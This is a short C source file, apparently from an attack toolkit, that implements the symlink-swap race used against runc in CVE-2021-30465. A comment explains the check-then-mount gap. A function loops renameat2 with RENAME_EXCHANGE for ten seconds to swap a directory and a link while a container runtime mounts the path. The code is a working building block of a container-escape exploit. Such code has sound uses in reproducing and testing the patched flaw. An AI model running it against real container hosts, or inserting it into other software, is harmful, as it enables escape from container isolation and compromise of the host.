/*
 * Whoever mounts looks first whether the target is a link, and mounts then. In between it becomes one: renameat2(2) exchanges a directory and a
 * link in one step, as often as one likes. Two boxes with a volume in common did that to runc (CVE-2021-30465).
 */
#include "attack.h"
#include <sys/syscall.h>
#include <time.h>

enum { EXCHANGE = 2 }; /* RENAME_EXCHANGE of <linux/fs.h> */

/* argv: a directory, a link. They are exchanged for ten seconds; where one of them is being mounted on, the kernel refuses for a moment. */
void symlink_race(char **argv)
{
	for (const time_t end = time(NULL) + 10; time(NULL) < end;)
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], EXCHANGE);
}
